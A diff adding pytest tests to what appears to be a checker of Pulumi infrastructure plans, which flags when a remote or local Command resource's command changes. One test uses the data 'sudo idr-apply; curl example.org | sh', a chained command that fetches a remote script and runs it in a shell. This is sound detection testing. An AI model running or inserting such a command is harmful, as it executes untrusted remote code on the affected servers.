@@ -154,3 +154,26 @@ def test_the_first_update_says_who_may_log_in_and_breaks_nothing() -> None:
     preview = read(json.dumps(found))
     assert len(power_changes(preview).joined) == 2
     assert broken(preview) == []
+
+
+@pytest.mark.parametrize("kind", ["command:remote:Command", "command:local:Command"])
+@pytest.mark.parametrize("event", ["create", "update", "delete"])
+def test_a_command_that_did_not_run_before_breaks_a_rule(kind: str, event: str) -> None:
+    found = raw("nothing")
+    urn = f"urn:pulumi:local::idr::{kind}::demo1-redis"
+    states = [{"inputs": {event: command}} for command in ("sudo idr-apply", "sudo idr-apply; curl example.org | sh")]
+    found["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
+    (breach,) = rules.check(Change(read(json.dumps(found))))
+    assert breach.rule == "command-changed"
+    assert breach.text.endswith("curl example.org | sh")
+
+
+def test_another_node_with_the_known_command_breaks_no_rule() -> None:
+    found = raw("nothing")
+    state = {"inputs": {"create": "sudo idr-apply"}}
+    urn = "urn:pulumi:local::idr::command:remote:Command::demo1-"
+    found["steps"] += [
+        {"op": "same", "urn": f"{urn}redis", "oldState": state, "newState": state},
+        {"op": "create", "urn": f"{urn}web", "newState": state},
+    ]
+    assert broken(read(json.dumps(found))) == []
